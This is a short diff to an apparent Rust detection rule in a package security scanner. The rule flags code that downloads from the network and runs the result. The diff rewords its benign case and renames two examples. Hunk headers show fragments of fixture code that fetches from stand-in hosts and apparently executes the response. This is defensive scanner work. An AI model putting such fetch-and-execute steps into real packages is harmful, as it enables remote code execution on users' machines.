@@ -12,7 +12,7 @@ pub(super) static FINDING: Declaration = Declaration {
     severity: Severity::Critical,
     summary: "A response from the network is written to a file that is then run, or goes straight into a shell or an interpreter.",
     advice: "Look at the host, and whether the download is pinned to a version and checked against a checksum.",
-    benign_when: "An installer fetches the package's own binary from its own releases, pinned to its own version.",
+    benign_when: "The package fetches its own binary from its own releases, pinned to its own version, when it is installed or first used.",
     references: &["CWE-494", "CWE-506", "T1059", "T1105"],
     examples: &[
         Example {
@@ -33,7 +33,7 @@ require("https").get("https://files.invalid/tool", (res) => {
             ],
         },
         Example {
-            name: "a hook pipes a download into a shell",
+            name: "an install script pipes a download into a shell",
             severity: Some(Severity::Critical),
             files: &[(
                 "package.json",
@@ -70,7 +70,7 @@ fetch("https://api.example/latest").then((r) => r.json()).then((latest) => execF
             ],
         },
         Example {
-            name: "a hook only shows a page",
+            name: "an install script only shows a page",
             severity: None,
             files: &[(
                 "package.json",
